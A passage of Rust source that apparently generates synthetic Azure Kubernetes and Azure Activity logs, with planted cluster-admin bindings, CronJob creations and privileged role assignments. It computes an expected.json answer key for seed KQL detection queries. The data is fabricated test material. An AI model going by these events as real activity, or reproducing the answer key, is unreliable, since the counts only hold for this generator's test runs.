                "RoleBinding",
                &n,
                "cluster-admin",
                "dave@contoso.com",
            ));
            (ns, name) = (Some(space.into()), Some(n));
        } else {
            rare = false;
        }
        if name.is_none() {
            name = match resource {
                "pods" => {
                    let base = *self.r.pick(&[
                        "nginx-7c5ddbdf54",
                        "coredns-59b4f5bbd5",
                        "payments-api-6d9c8",
                        "ama-logs-rs-5f6b",
                    ]);
                    Some(format!("{base}-{}", self.r.hex(5)))
                }
                "leases" => {
                    let i = self.r.below(3 + NODES.len() as u64) as usize;
                    Some(match i {
                        0 => "kube-controller-manager".into(),
                        1 => "kube-scheduler".into(),
                        2 => "cluster-autoscaler".into(),
                        _ => NODES[i - 3].into(),
                    })
                }
                "nodes" => Some(self.r.pick(&NODES).to_string()),
                "tokenreviews" | "subjectaccessreviews" => None,
                _ => Some(format!(
                    "{}-{}",
                    &resource[..resource.len() - 1],
                    self.r.hex(4)
                )),
            };
        }
        // list/watch have no name
        if verb == "list" || verb == "watch" {
            name = None;
        }
        let level = if matches!(verb, "create" | "update" | "patch" | "delete") {
            "RequestResponse"
        } else {
            *self.r.pick(&["Metadata", "Metadata", "Request"])
        };
        if req_obj.is_none() && level != "Metadata" && matches!(verb, "create" | "update" | "patch")
        {
            let (nsr, nm) = (ns.as_deref(), name.as_deref().unwrap_or(""));
            req_obj = Some(match resource {
                "pods" => self.pod_object(nsr, nm),
                "leases" => self.lease_object(nsr, nm, ts),
                "clusterrolebindings" => {
                    let role = *self.r.pick(&ROLES);
                    Self::crb_object(
                        "ClusterRoleBinding",
                        nm,
                        role,
                        "system:serviceaccount:kube-system:ama-logs",
                    )
                }
                "cronjobs" => {
                    // non-create CronJob writes; creates only via the rare branch above
                    if verb == "create" {
                        verb = "update";
                    }
                    self.cronjob_object("CronJob", nsr.unwrap_or("default"), nm)
                }
                "tokenreviews" => obj! {
                    "kind" => "TokenReview", "apiVersion" => "authentication.k8s.io/v1",
                    "metadata" => obj! { "creationTimestamp" => J::Null },
                    "spec" => obj! {
                        "token" => format!("eyJhbGciOiJSUzI1NiIsImtpZCI6I{}", self.r.hex(24)),
                        "audiences" => vec![J::from("https://kubernetes.default.svc")],
                    },
                    "status" => obj! { "user" => obj! {} },
                },
                "subjectaccessreviews" => obj! {
                    "kind" => "SubjectAccessReview", "apiVersion" => "authorization.k8s.io/v1",
                    "metadata" => obj! { "creationTimestamp" => J::Null },
                    "spec" => obj! {
                        "resourceAttributes" => obj! { "namespace" => *self.r.pick(&NAMESPACES), "verb" => "get", "resource" => "pods" },
                        "user" => "system:serviceaccount:monitoring:prometheus",
                        "groups" => vec![J::from("system:serviceaccounts")],
                    },
                    "status" => obj! { "allowed" => false },
                },
                _ => {
                    let kind = match resource {
                        "configmaps" => "ConfigMap",
                        "endpoints" => "Endpoints",
                        "events" => "Event",
                        "nodes" => "Node",
                        "secrets" => "Secret",
                        "deployments" => "Deployment",
                        _ => "ReplicaSet",
                    };
                    let api = if group.is_empty() {
                        ver.to_string()
                    } else {
                        format!("{group}/{ver}")
                    };
                    self.generic_object(kind, &api, nsr, nm)
                }
            });
        }
        if verb == "create" && req_obj.is_none() && resource == "cronjobs" {
            verb = "get";
        }
        // request URI
        let mut uri = if group.is_empty() {
            format!("/api/{ver}")
        } else {
            format!("/apis/{group}/{ver}")
        };
        if let Some(n) = &ns {
            let _ = write!(uri, "/namespaces/{n}");
        }
        let _ = write!(uri, "/{resource}");
        if let Some(n) = &name
            && verb != "create"
        {
            let _ = write!(uri, "/{n}");
        }
        if verb == "list" {
            uri.push_str("?limit=500&resourceVersion=0");
        } else if verb == "watch" {
            let _ = write!(
                uri,
                "?allowWatchBookmarks=true&resourceVersion={}&timeout=7m3s&timeoutSeconds=423&watch=true",
                self.r.range(1_000_000, 100_000_000)
            );
        }
        let allow = self.r.f64() > 0.006;
        let decision = if allow { "allow" } else { "forbid" };
        let code: i64 = if !allow {
            403
        } else if verb == "create" {
            201
        } else if self.r.f64() < 0.03 {
            404
        } else {
            200
        };
        let mut obj_ref = obj! { "resource" => resource };
        if let Some(n) = &ns {
            obj_ref.set("namespace", n.as_str().into());
        }
        if let Some(n) = &name {
            obj_ref.set("name", n.as_str().into());
        }
        if !group.is_empty() {
            obj_ref.set("apiGroup", group.into());
        }
        obj_ref.set("apiVersion", ver.into());
        let uid = if u_name.contains('@') {
            self.r.uuid()
        } else {
            u_name.clone()
        };
        let groups: Vec<J> = u_groups.iter().map(|&g| J::from(g)).collect();
        let mut ev = obj! {
            "kind" => "Event", "apiVersion" => "audit.k8s.io/v1", "level" => level,
            "auditID" => self.r.uuid(), "stage" => "ResponseComplete", "requestURI" => uri,
            "verb" => verb,
            "user" => obj! { "username" => &u_name, "uid" => uid, "groups" => groups },
        };
        let (ips, rare_ip) = self.source_ips();
        rare |= rare_ip;
        if let Some(ips) = ips {
            ev.set("sourceIPs", J::Arr(ips));
        }
        ev.set("userAgent", ua.into());
        ev.set("objectRef", obj_ref);
        let mut status = obj! { "metadata" => obj! {}, "code" => code };
        if !allow {
            status.set("status", "Failure".into());
            status.set(
                "message",
                format!(
                    "{resource} is forbidden: User \"{u_name}\" cannot {verb} resource \"{resource}\""
                )
                .into(),
            );
            status.set("reason", "Forbidden".into());
        }
        ev.set("responseStatus", status);
        if let Some(ro) = &req_obj
            && level != "Metadata"
        {
            ev.set("requestObject", ro.clone());
        }
        if let Some(ro) = &req_obj
            && level == "RequestResponse"
            && allow
            && verb != "delete"
            && self.r.f64() < 0.5
        {
            // echo of the stored object, as the API server returns it
            let mut resp = ro.clone();
            let mut meta = ro.get("metadata").cloned().unwrap_or(obj! {});
            meta.set("uid", self.r.uuid().into());
            meta.set(
                "resourceVersion",
                self.r.range(1_000_000, 100_000_000).to_string().into(),
            );
            resp.set("metadata", meta);
            ev.set("responseObject", resp);
        }
        ev.set("requestReceivedTimestamp", format!("{}Z", &ts[..26]).into());
        let ms = self.r.below(1000);
        ev.set("stageTimestamp", format!("{}{ms:03}Z", &ts[..23]).into());
        let short = u_name.rsplit(':').next().unwrap_or(&u_name);
        let reason = if allow {
            format!(
                "RBAC: allowed by ClusterRoleBinding \"system:{short}\" of ClusterRole \"system:{short}\" to User \"{u_name}\""
            )
        } else {
            String::new()
        };
        let mut annotations = obj! {
            "authorization.k8s.io/decision" => decision,
            "authorization.k8s.io/reason" => reason,
        };
        if self.chance(0.0001 * k) {
            // The published Q6 reads the annotation key "": give it something to find.
            let v = if self.r.below(2) == 0 {
                "allow"
            } else {
                "deny"
            };
            annotations.set("", v.into());
            rare = true;
        }
        ev.set("annotations", annotations);
        let truncate = self.chance(0.0001 * k);
        Audit {
            event: ev,
            rare: rare || truncate,
            truncate,
        }
    }

    fn check_audit(ev: &J, e: &mut Expected) {
        let empty = obj! {};
        let ro = ev.get("requestObject").unwrap_or(&empty);
        let create = ev.get("verb").and_then(J::str) == Some("create");
        let kind = ro.get("kind").and_then(J::str);
        let role = ro
            .get("roleRef")
            .and_then(|r| r.get("name"))
            .and_then(J::str);
        if create && role == Some("cluster-admin") && kind == Some("ClusterRoleBinding") {
            e.q2 += 1;
        }
        if create && kind == Some("CronJob") {
            e.q3 += 1;
        }
        if ev
            .get("user")
            .and_then(|u| u.get("username"))
            .and_then(J::str)
            == Some("masterclient")
        {
            e.q4 += 1;
        }
        // tostring() of the first element as KQL compares it with a string:
        // a missing element or null is "".
        let first = match ev.get("sourceIPs") {
            Some(J::Arr(a)) => match a.first() {
                Some(J::Str(s)) => s.clone(),
                Some(J::Null) | None => String::new(),
                Some(other) => other.to_text(Style::Python),
            },
            _ => String::new(),
        };
        if first.is_empty() {
            e.q5 += 1;
        }
        if first == "10.0.0.1" {
            e.q5_restored += 1;
        }
        let annotations = ev.get("annotations");
        let annotation = |key: &str| annotations.and_then(|a| a.get(key)).and_then(J::str);
        if create && annotation("") == Some("allow") {
            e.q6 += 1;
        }
        if create && annotation("authorization.k8s.io/decision") == Some("allow") {
            e.q6_restored += 1;
        }
    }

    /// A kube-apiserver klog line, and whether it is a rare shape.
    fn apiserver_line(&mut self, iso: &str) -> (String, bool) {
        let k = self.k;
        let kt = Self::klog_ts(iso);
        let x = self.r.f64();
        if x < 0.0040 * k {
            // Q1 hit
            let pod = format!("nginx-7c5ddbdf54-{}", self.r.hex(5));
            let (id, ip, port) = (self.r.uuid(), self.node_ip(), self.r.range(30000, 60000));
            return (
                format!(
                    "{kt}      12 httplog.go:132] \"HTTP\" verb=\"GET\" URI=\"/api/v1/namespaces/default/pods/{pod}/log?container=nginx\" latency=\"12.4ms\" userAgent=\"kubectl/v1.29.2\" audit-ID=\"{id}\" srcIP=\"{ip}:{port}\" resp=200"
                ),
                true,
            );
        }
        if x < 0.0050 * k {
            // Q1 hit, mixed case (KQL contains is case-insensitive)
            return (
                format!(
                    "{kt}      12 handler.go:153] error resolving path \"/API/V1/namespaces/web/Pods/Nginx-Canary\": not found"
                ),
                true,
            );
        }
        if x < 0.0060 * k {
            // decoy: "pods / nginx" but not the substring
            return (
                format!(
                    "{kt}      12 httplog.go:132] \"HTTP\" verb=\"LIST\" URI=\"/api/v1/pods?labelSelector=app%3Dnginx\" latency=\"3.1ms\" resp=200"
                ),
                true,
            );
        }
        if x < 0.0062 * k {
            // Q1 hit next to non-ASCII text
            return (
                format!(
                    "{kt}      12 handler.go:153] error resolving path \"/api/v1/namespaces/caf\u{e9}/PODS/NGINX-\u{fc}n\u{ef}c\u{f8}d\u{e9}-\u{1f680}\": not found"
                ),
                true,
            );
        }
        if x < 0.0064 * k {
            // decoy: URL-encoded slash
            return (
                format!(
                    "{kt}      12 httplog.go:132] \"HTTP\" verb=\"GET\" URI=\"/api/v1/namespaces/default/pods%2Fnginx-7c5ddbdf54\" latency=\"1.0ms\" resp=404"
                ),
                true,
            );
        }
        if x < 0.80 {
            let ns = *self.r.pick(&NAMESPACES);
            let verb = *self.r.pick(&["GET", "LIST", "WATCH", "PUT"]);
            let res = *self.r.pick(&["configmaps", "endpoints", "pods", "secrets"]);
            let latency = self.r.f64() * 40.0;
            let agent = *self.r.pick(&[
                "kubelet/v1.29.7",
                "kube-controller-manager/v1.29.7",
                "coredns/v1.11.1",
            ]);
            let (id, ip, port) = (self.r.uuid(), self.node_ip(), self.r.range(30000, 60000));
            let resp = *self.r.pick(&[200, 200, 200, 404, 409]);
            return (
                format!(
                    "{kt}      12 httplog.go:132] \"HTTP\" verb=\"{verb}\" URI=\"/api/v1/namespaces/{ns}/{res}\" latency=\"{latency:.1}ms\" userAgent=\"{agent}\" audit-ID=\"{id}\" srcIP=\"{ip}:{port}\" resp={resp}"
                ),
                false,
            );
        }
        if x < 0.95 {
            let (trace, id, ip, total) = (
                self.r.range(100_000_000, 1_000_000_000),
                self.r.uuid(),
                self.node_ip(),
                self.r.range(100, 900),
            );
            return (
                format!(
                    "{kt}      12 trace.go:236] Trace[{trace}]: \"Update\" accept:application/vnd.kubernetes.protobuf,application/json,audit-id:{id},client:{ip},api-group:coordination.k8s.io,api-version:v1,name:kube-scheduler,subresource:,namespace:kube-system,protocol:HTTP/2.0,resource:leases,scope:resource,url:/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler,user-agent:kube-scheduler/v1.29.7,verb:PUT ({}) (total time: {total}ms)",
                    &iso[..19]
                ),
                false,
            );
        }
        (
            format!(
                "E{}      12 status.go:71] apiserver received an error that is not an metav1.Status: context.deadlineExceededError{{}}: context deadline exceeded",
                &kt[1..]
            ),
            false,
        )
    }

    fn other_line(&mut self, cat: &str, iso: &str) -> (String, bool) {
        let kt = Self::klog_ts(iso);
        if cat == "kube-controller-manager" {
            if self.chance(0.002 * self.k) {
                // decoy: pods/nginx in another category
                let (h, id) = (self.r.hex(5), self.r.uuid());
                return (
                    format!(
                        "{kt}       1 garbagecollector.go:549] \"Deleting object\" object=\"default/pods/nginx-7c5ddbdf54-{h}\" objectUID=\"{id}\" kind=\"Pod\" propagationPolicy=\"Background\""
                    ),
                    true,
                );
            }
            let ns = *self.r.pick(&NAMESPACES);
            let app = *self.r.pick(&["nginx", "payments-api", "coredns"]);
            let (h, d) = (self.r.hex(10), self.r.range(50, 9000));
            return (
                format!(
                    "{kt}       1 replica_set.go:676] \"Finished syncing\" kind=\"ReplicaSet\" key=\"{ns}/{app}-{h}\" duration=\"{d}us\""
                ),
                false,
            );
        }
        if cat == "kube-scheduler" {
            let ns = *self.r.pick(&NAMESPACES);
            let app = *self.r.pick(&["nginx-7c5ddbdf54", "payments-api-6d9c8"]);
            let h = self.r.hex(5);
            let node = *self.r.pick(&NODES);
            let feasible = self.r.range(1, 10);
            return (
                format!(
                    "{kt}       1 schedule_one.go:252] \"Successfully bound pod to node\" pod=\"{ns}/{app}-{h}\" node=\"{node}\" evaluatedNodes=10 feasibleNodes={feasible}"
                ),
                false,
            );
        }
        let line = *self.r.pick(&[445, 566, 620]);
        let msg = *self.r.pick(&[
            "No unschedulable pods",
            "Scale down status: lastScaleUpTime=2024-11-03 22:10:41 +0000 UTC",
            "Calculating unneeded nodes",
            "Starting main loop",
            "Pod default/nginx-7c5ddbdf54-x2k9q is unschedulable",
        ]);
        (
            format!("{kt}       1 static_autoscaler.go:{line}] {msg}"),
            false,
        )
    }

    /// Row `i` of `total` of AzureDiagnostics, as one JSON line (no newline).
    pub fn diag_row(&mut self, i: u64, total: u64, out: &mut String, e: &mut Expected) {
        let ts = self.ts(i, total);
        let (rg, cluster) = if self.r.f64() < 0.9 {
            CLUSTERS[(i % CLUSTERS.len() as u64) as usize]
        } else {
            CLUSTERS[0]
        };
        let sub = if rg != "rg-aks-dev-neu" {
            SUBS[0]
        } else {
            SUBS[1]
        };
        let rid = format!(
            "/SUBSCRIPTIONS/{}/RESOURCEGROUPS/{}/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/{}",
            sub.to_uppercase(),
            rg.to_uppercase(),
            cluster.to_uppercase()
        );
        let cat = CATEGORIES[self.r.weighted(&CAT_WEIGHTS)];
        let (log, pod, stream, outer_heavy);
        if cat == "kube-audit" {
            let audit = self.audit_event(&ts);
            let heavy = audit.rare && self.chance(self.escaped);
            let inner_heavy = heavy && self.r.below(2) == 0;
            outer_heavy = heavy && !inner_heavy;
            let mut text = audit
                .event
                .to_text(if inner_heavy { Style::Heavy } else { Style::Go });
            if audit.truncate {
                // Keep 40–90 % of the event: still holds its verb and user, no longer JSON.
                let keep = text.len() * (40 + self.r.below(51) as usize) / 100;
                let mut cut = keep.max(1);
                while !text.is_char_boundary(cut) {
                    cut -= 1;
                }
                text.truncate(cut);
                e.q5 += 1;
            } else {
                Self::check_audit(&audit.event, e);
            }
            log = text;
            pod = format!("kube-apiserver-{}-{}", self.r.hex(10), self.r.hex(5));
            stream = "stdout";
        } else if cat == "kube-apiserver" {
            let (line, r) = self.apiserver_line(&ts);
            let lower = line.to_lowercase();
            if lower.contains("pods/nginx") {
                e.q1 += 1;
                if line.contains("pods/nginx") {
                    e.q1_case_sensitive += 1;
                }
            }
            log = line;
            pod = format!("kube-apiserver-{}-{}", self.r.hex(10), self.r.hex(5));
            stream = "stderr";
            outer_heavy = r && self.chance(self.escaped);
        } else {
            let (line, r) = self.other_line(cat, &ts);
            log = line;
            pod = format!("{cat}-{}-{}", self.r.hex(10), self.r.hex(5));
            stream = "stderr";
            outer_heavy = r && self.chance(self.escaped);
        }
        let row = obj! {
            "TenantId" => TENANT, "TimeGenerated" => ts, "ResourceId" => &rid, "Category" => cat,
            "ResourceGroup" => rg.to_uppercase(), "SubscriptionId" => sub,
            "ResourceProvider" => "MICROSOFT.CONTAINERSERVICE",
            "Resource" => cluster.to_uppercase(), "ResourceType" => "MANAGEDCLUSTERS",
            "OperationName" => "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
            "log_s" => log, "pod_s" => pod, "stream_s" => stream,
            "containerID_s" => self.r.hex(64), "SourceSystem" => "Azure", "Type" => "AzureDiagnostics",
            "_ResourceId" => rid.to_lowercase(),
        };
        row.write(
            out,
            if outer_heavy {
                Style::Heavy
            } else {
                Style::Python
            },
        );
    }

    /// Row `i` of `total` of AzureActivity, as one JSON line (no newline).
    pub fn activity_row(&mut self, i: u64, total: u64, out: &mut String, e: &mut Expected) {
        let ts = self.ts(i, total);
        let (op_value, op_name) = AZ_OPS[self.r.weighted(&AZ_OP_WEIGHTS)];
        let sub = *self.r.pick(&SUBS);
        let rg = *self.r.pick(&[
            "rg-aks-prod-weu",
            "rg-shared-kv",
            "rg-net-hub",
            "rg-data-lake",
        ]);
        let caller = *self.r.pick(&[
            "alice@contoso.com",
            "bob@contoso.com",
            "deploy-sp@contoso.onmicrosoft.com",
            "9f1c2b3a-7e6d-4c5b-8a9f-0e1d2c3b4a59",
            "mallory@fabrikam.com",
        ]);
        let ip = format!(
            "{}.{}.{}.{}",
            self.r.pick(&[20, 40, 52, 104, 203]),
            self.r.below(255),
            self.r.below(255),
            self.r.range(1, 255)
        );
        let corr = self.r.uuid();
        let status = *self.r.pick(&["Start", "Succeeded", "Succeeded"]);
        let mut props = obj! {
            "eventCategory" => "Administrative", "entity" => J::Null, "message" => op_value,
            "hierarchy" => format!("{TENANT}/{sub}"),
        };
        // Heavy escapes at one of three levels: 1 the row, 2 Properties, 3 requestbody.
        let mut heavy_level = 0;
        let rid;
        if op_value.starts_with("Microsoft.Authorization/roleAssignments") {
            if self.chance(self.escaped) {
                heavy_level = 1 + self.r.below(3);
            }
            let ra = self.r.uuid();
            let scope = format!("/subscriptions/{sub}/resourceGroups/{rg}");
            rid = format!("{scope}/providers/Microsoft.Authorization/roleAssignments/{ra}");
            props.set("entity", rid.as_str().into());
            let roles = [
                OWNER,
                CONTRIBUTOR,
                READER,
                USER_ACCESS_ADMIN,
                STORAGE_BLOB_READER,
            ];
            let mut role = roles[self.r.weighted(&[2, 3, 4, 1, 3])].to_string();
            if self.r.f64() < 0.15 {
                role = role.to_uppercase(); // GUID casing varies in the wild
            }
            let role_def = format!(
                "/subscriptions/{sub}/providers/Microsoft.Authorization/roleDefinitions/{role}"
            );
            let principal = self.r.uuid();
            let principal_type = *self.r.pick(&["User", "ServicePrincipal", "Group"]);
            let mut rb_props = obj! {
                "PrincipalId" => &principal, "PrincipalType" => principal_type,
                "RoleDefinitionId" => &role_def, "Scope" => &scope,
                "Condition" => J::Null, "ConditionVersion" => J::Null,
            };
            if self.r.f64() < 0.7 {
                rb_props.set("Caller", caller.into());
            }
            let rb = obj! { "Id" => &ra, "Properties" => rb_props };
            if status != "Start" {
                let body = obj! {
                    "properties" => obj! {
                        "roleDefinitionId" => &role_def, "principalId" => &principal, "scope" => &scope,
                        "createdOn" => &ts, "createdBy" => J::Null,
                    },
                    "id" => &rid, "type" => "Microsoft.Authorization/roleAssignments", "name" => &ra,
                };
                props.set("responseBody", body.to_text(Style::Python).into());
            }
            if op_name == "Create role assignment" {
                let style = if heavy_level == 3 {
                    Style::Heavy
                } else {
                    Style::Python
                };
                props.set("requestbody", rb.to_text(style).into());
                let lower = role.to_lowercase();
                if lower.contains(OWNER) || lower.contains(CONTRIBUTOR) {
                    e.q7 += 1;
                }
            }
        } else {
            let provider: Vec<&str> = op_value.split('/').take(2).collect();
            rid = format!(
                "/subscriptions/{sub}/resourceGroups/{rg}/providers/{}/res-{}",
                provider.join("/"),
                self.r.hex(6)
            );
            props.set("entity", rid.as_str().into());
            props.set(
                "statusCode",
                (*self.r.pick(&["OK", "Created", "Accepted"])).into(),
            );
            props.set("serviceRequestId", self.r.uuid().into());
        }
        let method = if op_value.contains("write") {
            "PUT"
        } else {
            "POST"
        };
        let http = obj! { "clientRequestId" => self.r.uuid(), "clientIpAddress" => &ip, "method" => method };
        let authorization = obj! { "action" => op_value, "scope" => &rid };
        let claims = obj! {
            "aud" => "https://management.core.windows.net/",
            "iss" => format!("https://sts.windows.net/{TENANT}/"),
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn" => caller,
            "ipaddr" => &ip,
        };
        let props_style = if heavy_level == 2 {
            Style::Heavy
        } else {
            Style::Python
        };
        let provider = op_value
            .split('/')
            .next()
            .unwrap_or(op_value)
            .to_uppercase();
        let row = obj! {
            "TenantId" => TENANT, "SourceSystem" => "Azure", "CallerIpAddress" => &ip,
            "CategoryValue" => "Administrative", "CorrelationId" => corr,
            "Authorization" => authorization.to_text(Style::Python),
            "Claims" => claims.to_text(Style::Python),
            "Level" => "Informational", "OperationNameValue" => op_value,
            "Properties" => props.to_text(props_style),
            "Caller" => caller, "EventDataId" => self.r.uuid(), "EventSubmissionTimestamp" => &ts,
            "HTTPRequest" => http.to_text(Style::Python), "OperationId" => self.r.uuid(),
            "ResourceGroup" => rg.to_uppercase(), "ResourceProviderValue" => provider,
            "ActivityStatusValue" => status, "SubscriptionId" => sub, "TimeGenerated" => &ts,
            "OperationName" => op_name, "ResourceId" => &rid, "Type" => "AzureActivity",
            "_ResourceId" => rid.to_lowercase(),
        };
        row.write(
            out,
            if heavy_level == 1 {
                Style::Heavy
            } else {
                Style::Python
            },
        );
    }
}

/// Python's `name.rsplit(sep, n)[0]`.
fn rsplit_n(name: &str, sep: char, n: usize) -> String {
    let mut end = name.len();
    for _ in 0..n {
        match name[..end].rfind(sep) {
            Some(p) => end = p,
            None => break,
        }
    }
    name[..end].to_string()
}

// ----------------------------------------------------------------- writers

/// Writes `rows` AzureDiagnostics rows; returns the bytes written.
pub fn write_diagnostics(cfg: &Config, out: &mut dyn Write, e: &mut Expected) -> io::Result<u64> {
    let mut g = Gen::new(cfg.seed, cfg.rare_scale, cfg.escaped);
    g.days = cfg.days;
    write_rows(cfg.rows, out, |i, buf| g.diag_row(i, cfg.rows, buf, e))
}

/// Writes `activity_rows` AzureActivity rows; returns the bytes written.
pub fn write_activity(cfg: &Config, out: &mut dyn Write, e: &mut Expected) -> io::Result<u64> {
    let mut g = Gen::new(
        cfg.seed.wrapping_mul(7919).wrapping_add(1),
        cfg.rare_scale,
        cfg.escaped,
    );
    g.days = cfg.days;
    write_rows(cfg.activity_rows, out, |i, buf| {
        g.activity_row(i, cfg.activity_rows, buf, e)
    })
}

fn write_rows(
    rows: u64,
    out: &mut dyn Write,
    mut row: impl FnMut(u64, &mut String),
) -> io::Result<u64> {
    let mut buf = String::with_capacity(1 << 20);
    let mut written = 0u64;
    for i in 0..rows {
        row(i, &mut buf);
        buf.push('\n');
        if buf.len() >= 1 << 20 {
            out.write_all(buf.as_bytes())?;
            written += buf.len() as u64;
            buf.clear();
        }
    }
    out.write_all(buf.as_bytes())?;
    written += buf.len() as u64;
    Ok(written)
}

/// Counts bytes and throws them away.
struct Counter(u64);

impl Write for Counter {
    fn write(&mut self, b: &[u8]) -> io::Result<usize> {
        self.0 += b.len() as u64;
        Ok(b.len())
    }
    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

const SAMPLE_ROWS: u64 = 4000;

/// The number of AzureDiagnostics rows that makes about `bytes` bytes, from
/// the mean size of a sample generated with the same seed (deterministic).
pub fn diagnostics_rows_for(bytes: u64, seed: u64, rare_scale: f64, escaped: f64) -> u64 {
    let cfg = Config {
        rows: SAMPLE_ROWS,
        activity_rows: 0,
        seed,
        rare_scale,
        escaped,
        days: 1,
    };
    let mut c = Counter(0);
    let sample = write_diagnostics(&cfg, &mut c, &mut Expected::default()).unwrap_or(1);
    rows_for(bytes, sample)
}

/// The number of AzureActivity rows that makes about `bytes` bytes.
pub fn activity_rows_for(bytes: u64, seed: u64, rare_scale: f64, escaped: f64) -> u64 {
    let cfg = Config {
        rows: 0,
        activity_rows: SAMPLE_ROWS,
        seed,
        rare_scale,
        escaped,
        days: 1,
    };
    let mut c = Counter(0);
    let sample = write_activity(&cfg, &mut c, &mut Expected::default()).unwrap_or(1);
    rows_for(bytes, sample)
}

fn rows_for(bytes: u64, sample_bytes: u64) -> u64 {
    let per_row = (sample_bytes as f64 / SAMPLE_ROWS as f64).max(1.0);
    (bytes as f64 / per_row).round().max(1.0) as u64
}

/// What [`generate`] wrote.
#[derive(Clone, Debug)]
pub struct Summary {
    pub diagnostics: PathBuf,
    pub activity: PathBuf,
    pub diagnostics_bytes: u64,
    pub activity_bytes: u64,
    pub expected: Expected,
}

pub const DIAGNOSTICS_FILE: &str = "AzureDiagnostics.json";
pub const ACTIVITY_FILE: &str = "AzureActivity.json";
pub const EXPECTED_FILE: &str = "expected.json";

/// Writes `AzureDiagnostics.json`, `AzureActivity.json` and `expected.json`
/// into `dir` (created if missing).
pub fn generate(cfg: &Config, dir: &Path) -> io::Result<Summary> {
    std::fs::create_dir_all(dir)?;
    let mut expected = Expected::default();
    let diagnostics = dir.join(DIAGNOSTICS_FILE);
    let activity = dir.join(ACTIVITY_FILE);
    let diagnostics_bytes = {
        let mut f = io::BufWriter::with_capacity(1 << 20, std::fs::File::create(&diagnostics)?);
        let n = write_diagnostics(cfg, &mut f, &mut expected)?;
        f.flush()?;
        n
    };
    let activity_bytes = {
        let mut f = io::BufWriter::with_capacity(1 << 20, std::fs::File::create(&activity)?);
        let n = write_activity(cfg, &mut f, &mut expected)?;
        f.flush()?;
        n
    };
    let summary = Summary {
        diagnostics,
        activity,
        diagnostics_bytes,
        activity_bytes,
        expected,
    };
    std::fs::write(dir.join(EXPECTED_FILE), expected_json(cfg, &summary))?;
    Ok(summary)
}

/// The content of `expected.json`.
pub fn expected_json(cfg: &Config, s: &Summary) -> String {
    let mut out = String::new();
    let _ = writeln!(out, "{{");
    let _ = writeln!(out, " \"generator\": \"kqlite examples/gen_aks_logs.rs\",");
    let _ = writeln!(out, " \"seed\": {},", cfg.seed);
    let _ = writeln!(out, " \"rare_scale\": {},", cfg.rare_scale);
    let _ = writeln!(out, " \"escaped\": {},", cfg.escaped);
    let _ = writeln!(out, " \"AzureDiagnostics_rows\": {},", cfg.rows);
    let _ = writeln!(out, " \"AzureActivity_rows\": {},", cfg.activity_rows);
    let _ = writeln!(out, " \"AzureDiagnostics_bytes\": {},", s.diagnostics_bytes);
    let _ = writeln!(out, " \"AzureActivity_bytes\": {},", s.activity_bytes);
    let _ = writeln!(out, " \"expected_rows\": {{");
    let entries = s.expected.entries();
    for (i, (name, n)) in entries.iter().enumerate() {
        let comma = if i + 1 < entries.len() { "," } else { "" };
        let _ = writeln!(out, "  \"{name}\": {n}{comma}");
    }
    let _ = writeln!(out, " }}");
    let _ = writeln!(out, "}}");
    out
}

/// Reads the `expected_rows` of an `expected.json` written by [`generate`]
/// (a line-based reader for the format above; no JSON library needed).
pub fn read_expected(path: &Path) -> Option<Vec<(String, u64)>> {
    let text = std::fs::read_to_string(path).ok()?;
    let start = text.find("\"expected_rows\"")?;
    let mut out = Vec::new();
    for line in text[start..].lines().skip(1) {
        let line = line.trim().trim_end_matches(',');
        if line.starts_with('}') {
            break;
        }
        let (k, v) = line.split_once(':')?;
        out.push((
            k.trim().trim_matches('"').to_string(),
            v.trim().parse().ok()?,
        ));
    }
    Some(out)
}

// ------------------------------------------------------------ seed queries

/// The published seed queries, `(name, text)`, from `examples/seed-queries.kql`
/// (each query is one line; the `// Qn: …` comment above it names it).
pub fn seed_queries() -> Vec<(String, String)> {
    let text = include_str!("../../examples/seed-queries.kql");
    let mut out = Vec::new();
    let mut name = String::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("// Q") {
            name = format!("Q{}", rest.split(':').next().unwrap_or(""));
            continue;
        }
        if line.trim().is_empty() || line.starts_with("//") {
            continue;
        }
        out.push((name.clone(), line.to_string()));
    }
    out
}

/// Q5 and Q6 with the literals the published article lost (the source IP
/// `10.0.0.1`, the annotation key `authorization.k8s.io/decision`), named
/// `Q5_restored` and `Q6_restored` as in `expected.json`.
pub fn restored_queries() -> Vec<(String, String)> {
    seed_queries()
        .into_iter()
        .filter_map(|(name, q)| match name.as_str() {
            "Q5" => Some((
                "Q5_restored".to_string(),
                q.replace("[0] == \"\"", "[0] == \"10.0.0.1\""),
            )),
            "Q6" => Some((
                "Q6_restored".to_string(),
                q.replace(".[\"\"]", ".[\"authorization.k8s.io/decision\"]"),
            )),
            _ => None,
        })
        .collect()
}
